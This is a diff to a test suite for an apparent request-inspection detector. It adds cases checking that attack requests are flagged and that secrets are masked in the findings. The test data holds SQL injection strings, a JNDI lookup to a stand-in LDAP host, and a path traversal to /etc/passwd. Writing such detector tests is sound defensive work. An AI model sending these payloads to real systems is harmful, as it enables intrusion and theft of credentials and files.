@@ -57,6 +57,21 @@ describe("a finding", () => {
     }
   });
 
+  test.each([
+    ["/a?password=hunter2'%20or%204=4--", "hunter2", {}],
+    ["/a?user.session=f00d'%20or%204=4--", "f00d", {}],
+    ["/a", "b4rcel0na", { authorization: "Basic b4rcel0na${jndi:ldap://b4rcel0na.example}" }],
+    ["/a", "b4rcel0na", { cookie: "api_key=b4rcel0na'%20or%204=4--" }],
+    ["/a", "b4rcel0na", { authorization: "Basic b4rcel0na/../../etc/passwd" }],
+  ])("shows no letter of a field that holds a secret: %s", (target, secret, headers) => {
+    const { score, findings } = inspectRequest(requestOf(target, headers));
+    expect(score).toBeGreaterThanOrEqual(5);
+    for (const { evidence } of findings) {
+      expect(evidence).not.toMatch(/[a-z0-9]/i);
+      expect(evidence).not.toContain(secret);
+    }
+  });
+
   test("has a hash of its own for each detector, location and value", () => {
     const hashOf = (target: string) => inspectRequest(requestOf(target)).findings[0]?.hash;
     const hashes = [`/a?q=${encoded}`, `/a?p=${encoded}`, `/a?q=${encoded}1`].map(hashOf);
